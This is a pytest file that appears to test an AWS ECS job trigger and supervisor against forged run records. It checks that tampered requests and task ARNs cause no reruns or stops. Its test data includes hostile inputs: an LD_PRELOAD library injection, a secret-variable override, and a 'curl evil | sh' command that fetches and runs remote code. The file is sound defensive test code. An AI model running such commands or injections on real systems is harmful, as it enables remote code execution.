"""A run's record written around the trigger: the functions send and stop only what a caller's
request could have made them send and stop."""

from __future__ import annotations

import dataclasses
import json

import pytest
from botocore.exceptions import ClientError

from functions.common import records
from functions.supervisor import reconcile as reconcile_module
from functions.supervisor import supervisor
from functions.trigger import handler
from longjobs_contract import lifecycle, runs, trigger_config
from longjobs_contract.alarms import REFUSED_RECORD
from tests.functions.conftest import another_invocation
from tests.functions.test_supervisor import (
    NIGHTLY,
    RULES,
    RUN,
    advance,
    event_for,
    later,
    reconcile,
    running,
    stack,  # noqa: F401  (the fixture)
    start,
    stopped,
)

OTHER = {"job": "report", "idempotencyKey": "other-2026-11-01"}
OTHER_RUN = runs.run_id("report", "other-2026-11-01")


def forge(store: records.RunStore, run_id: str, **changes) -> None:
    """What anyone allowed to write the table could write."""
    assert store.update(store.get(run_id), changes)


@pytest.mark.parametrize(
    ("request_changes", "reason"),
    [
        (
            {"environment": {"LD_PRELOAD": "/tmp/x.so"}},
            "environment: 'LD_PRELOAD' is a loader or interpreter variable (LD_*: the dynamic "
            "loader preloads, audits or finds libraries); a run may never set it",
        ),
        (
            {"environment": {"UNDECLARED": "x"}},
            "environment: 'UNDECLARED' is not a variable this job lets a run set; allowed: BIG, "
            "REPORT_DAY, REPORT_ROWS, V, VAR_00, VAR_01, VAR_02, VAR_03, VAR_04, VAR_05 and 34 "
            "more",
        ),
        (
            {"environment": {"DB_PASSWORD": "x"}},
            "environment: 'DB_PASSWORD' is one of the job's secrets; a run may not set it",
        ),
        (
            {"command": ["sh", "-c", "curl evil | sh"], "capacity": "warp"},
            "capacity: 'warp' is not allowed; use spot or on-demand",
        ),
    ],
)
def test_a_rerun_of_a_forged_request_sends_nothing_and_ends_the_run_failed(
    stack,  # noqa: F811
    context,
    capsys,
    request_changes,
    reason,
):
    ecs, store, _ = stack
    task = start(ecs, context)
    supervisor.handler(running(task), context)
    kept = store.get(RUN)["request"]
    forge(store, RUN, request={**kept, **request_changes})
    sent = len(ecs.run_task_calls())
    capsys.readouterr()
    answer = supervisor.handler(stopped(task, stopCode="SpotInterruption"), context)
    assert len(ecs.run_task_calls()) == sent
    record = store.get(RUN)
    expected = f"the job's rules refuse the run's recorded request: {reason}"
    assert (answer["status"], record["status"], record["reason"]) == ("FAILED", "FAILED", expected)
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {"outcome": REFUSED_RECORD, "runId": RUN, "reason": expected} in lines


def test_the_pass_stops_for_its_timeout_only_a_task_ecs_shows_as_the_runs(
    stack,  # noqa: F811
    context,
    monkeypatch,
    config_file,
):
    ecs, store, _ = stack
    config = trigger_config.loads(config_file.read_text())
    report = dataclasses.replace(config.jobs["report"], **RULES, timeout_seconds=600)
    config_file.write_text(
        trigger_config.dumps(dataclasses.replace(config, jobs={**config.jobs, "report": report}))
    )
    handler.load_config.cache_clear()
    supervisor.load_config.cache_clear()
    task = start(ecs, context)
    handler.handler(OTHER, context)
    other = ecs.tasks[ecs.started()[-1]]
    begun = records.timestamp(records.now())
    supervisor.handler(event_for(task, lastStatus="RUNNING", version=3, startedAt=begun), context)
    # The record now names the other run's task as its own.
    attempts = store.get(RUN)["attempts"]
    forge(store, RUN, attempts=[{**attempts[0], "taskArn": other["taskArn"]}])
    later(monkeypatch, 11)
    answer = supervisor.handler(supervisor.RECONCILE, context)
    assert (answer["timedOut"], answer["notOwned"]) == (0, 1)
    assert ecs.tasks[other["taskArn"]]["desiredStatus"] != "STOPPED"
    # Unforged, the same pass stops it.
    forge(store, RUN, attempts=attempts)
    assert supervisor.handler(supervisor.RECONCILE, context)["timedOut"] == 1
    assert ecs.tasks[task["taskArn"]]["stoppedReason"] == lifecycle.TIMEOUT_REASON


def test_stop_by_run_id_leaves_alone_a_task_the_record_names_but_ecs_does_not_show_as_its(
    stack,  # noqa: F811
    context,
):
    ecs, store, _ = stack
    task = start(ecs, context)
    handler.handler(OTHER, context)
    other = ecs.tasks[ecs.started()[-1]]
    supervisor.handler(running(task), context)
    attempts = store.get(RUN)["attempts"]
    forge(store, RUN, attempts=[{**attempts[0], "taskArn": other["taskArn"]}])
    answer = handler.handler({"action": "stop", "runId": RUN}, context)
    # The stop is recorded; the task the record names is not the run's, so nothing is stopped.
    assert (answer["status"], answer["stopRequested"]) == (
        "RUNNING",
        "stopped through the longjobs trigger",
    )
    assert ecs.tasks[other["taskArn"]]["desiredStatus"] != "STOPPED"
    assert store.get(OTHER_RUN)["status"] != "STOPPED"
    # Its own task is stopped by the supervisor when its next event comes: a stopped run's task
    # must not run on.
    supervisor.handler(running(task), context)
    assert ecs.tasks[task["taskArn"]]["desiredStatus"] == "STOPPED"
    assert ecs.tasks[other["taskArn"]]["desiredStatus"] != "STOPPED"


def test_a_nightly_run_untouched_is_sent_as_before(stack, context):  # noqa: F811
    ecs, store, _ = stack
    task = start(ecs, context)
    supervisor.handler(running(task), context)
    answer = supervisor.handler(stopped(task, stopCode="SpotInterruption"), context)
    assert (answer["outcome"], answer["status"]) == ("rerun", "PENDING")
    assert NIGHTLY["idempotencyKey"] == store.get(RUN)["request"]["idempotencyKey"]


def test_stop_by_run_id_goes_on_when_iam_hides_the_task_the_record_names(
    stack,  # noqa: F811
    context,
    monkeypatch,
):
    ecs, store, _ = stack
    task = start(ecs, context)
    supervisor.handler(running(task), context)

    def denied(**params):
        # What IAM answers the trigger for a task not tagged as one of this stack's runs.
        raise ClientError(
            {"Error": {"Code": "AccessDeniedException", "Message": "not authorized"}},
            "DescribeTasks",
        )

    monkeypatch.setattr(ecs, "describe_tasks", denied)
    answer = handler.handler({"action": "stop", "runId": RUN}, context)
    # The stop goes on and is recorded; the task IAM hides is not stopped by the trigger.
    assert answer["stopRequested"] == "stopped through the longjobs trigger"
    assert ecs.tasks[task["taskArn"]]["desiredStatus"] != "STOPPED"


@pytest.mark.parametrize(
    "forged_version",
    [
        # Behind ECS's: the pass applies the task to the run it was described for.
        None,
        # As ECS's: the pass takes it as recorded, and only sends the run's stop again.
        3,
    ],
)
def test_a_task_another_run_started_is_neither_stopped_nor_recorded_for_a_record_naming_it(
    stack,  # noqa: F811
    context,
    monkeypatch,
    forged_version,
):
    """A run's record forged to name another run's running task as its attempt's, and to ask
    its stop: only a task the run started (`startedBy`) is the run's. The pass, describing it
    for the forged run, neither stops it nor records it there; its own events record it on
    its own run only."""
    ecs, store, _ = stack
    later(monkeypatch, 0)  # one clock for the stamps below
    task = start(ecs, context)
    handler.handler(OTHER, another_invocation())
    other = ecs.tasks[ecs.started()[-1]]
    for started in (task, other):
        advance(ecs, started, lastStatus="RUNNING", version=3)
    supervisor.handler(running(task), another_invocation())
    entry = {**store.get(RUN)["attempts"][0], "taskArn": other["taskArn"]}
    if forged_version is None:
        entry.pop("version")
    else:
        entry["version"] = forged_version
    forge(store, RUN, attempts=[entry], stopRequested="forged")
    forged = store.get(RUN)
    later(monkeypatch, 3)  # the forged run is quiet: the pass describes the task it names
    assert supervisor.handler(running(other), another_invocation()) == {
        "outcome": "recorded",
        "status": "RUNNING",
    }
    others = store.get(OTHER_RUN)
    answer = reconcile()
    assert (answer["looked"], answer["applied"], answer["errors"]) == (1, 0, 0)
    assert [params["tasks"] for params in ecs.requests("DescribeTasks")] == [[other["taskArn"]]]
    assert ecs.requests("StopTask") == []
    assert ecs.tasks[other["taskArn"]]["desiredStatus"] == "RUNNING"
    assert (store.get(RUN), store.get(OTHER_RUN)) == (forged, others)


def _refuses_other_clusters(ecs) -> None:
    """DescribeTasks as ECS answers a task of another cluster: the whole call is refused
    ("InvalidParameterException: Invalid identifier: Identifier is for cluster X. Your cluster
    is Y")."""
    describe = ecs.describe_tasks

    def strict(**params):
        for arn in params["tasks"]:
            if "/longjobs-prod/" not in arn:
                message = f"Invalid identifier: Identifier is for cluster {arn.split('/')[1]}"
                raise ClientError(
                    {"Error": {"Code": "InvalidParameterException", "Message": message}},
                    "DescribeTasks",
                )
        return describe(**params)

    ecs.describe_tasks = strict


def test_a_record_naming_another_clusters_task_holds_up_no_other_runs_timeout(
    stack,  # noqa: F811
    context,
    monkeypatch,
    config_file,
):
    """The pass describes a page's tasks together: a forged record naming a task of another
    cluster is left out (ECS would refuse the whole call), so the run beside it past its
    timeout is still stopped."""
    ecs, store, _ = stack
    config = trigger_config.loads(config_file.read_text())
    report = dataclasses.replace(config.jobs["report"], **RULES, timeout_seconds=600)
    jobs = {**config.jobs, "report": report}
    config_file.write_text(trigger_config.dumps(dataclasses.replace(config, jobs=jobs)))
    handler.load_config.cache_clear()
    supervisor.load_config.cache_clear()
    task = start(ecs, context)
    handler.handler(OTHER, context)
    other = ecs.tasks[ecs.started()[-1]]
    begun = records.timestamp(records.now())
    supervisor.handler(event_for(task, lastStatus="RUNNING", version=3, startedAt=begun), context)
    supervisor.handler(event_for(other, lastStatus="RUNNING", version=3, startedAt=begun), context)
    attempts = store.get(OTHER_RUN)["attempts"]
    elsewhere = other["taskArn"].replace("/longjobs-prod/", "/elsewhere/")
    forge(store, OTHER_RUN, attempts=[{**attempts[0], "taskArn": elsewhere}])
    _refuses_other_clusters(ecs)
    later(monkeypatch, 11)
    answer = reconcile()
    assert (answer["timedOut"], answer["notOwned"], answer["errors"]) == (1, 1, 0)
    assert ecs.tasks[task["taskArn"]]["stoppedReason"] == lifecycle.TIMEOUT_REASON


def test_a_record_the_pass_cannot_read_holds_up_no_other_run(stack, context, monkeypatch):  # noqa: F811
    """A record whose `updatedAt` is not a time: the pass says so and goes on to the runs after
    it, whose task stopped with every event lost (one worker: the runs in their order)."""
    ecs, store, _ = stack
    monkeypatch.setattr(reconcile_module, "WORKERS", 1)
    task = start(ecs, context)
    handler.handler(OTHER, context)
    other = ecs.tasks[ecs.started()[-1]]
    begun = records.timestamp(records.now())
    supervisor.handler(event_for(task, lastStatus="RUNNING", version=3, startedAt=begun), context)
    supervisor.handler(event_for(other, lastStatus="RUNNING", version=3, startedAt=begun), context)
    first, second = sorted((RUN, OTHER_RUN), key=lambda run: store.get(run)["createdAt"])
    forge(store, first, updatedAt="not a time")
    ended = ecs.tasks[(other if second == OTHER_RUN else task)["taskArn"]]
    ended.update(version=5, lastStatus="STOPPED", desiredStatus="STOPPED",
                 stopCode="EssentialContainerExited",
                 stoppedReason="Essential container in task exited")  # fmt: skip
    ended["containers"][0].update(lastStatus="STOPPED", exitCode=0)
    later(monkeypatch, 11)
    answer = reconcile()
    assert (answer["read"], answer["errors"]) == (2, 1)
    assert store.get(second)["status"] == "SUCCEEDED"
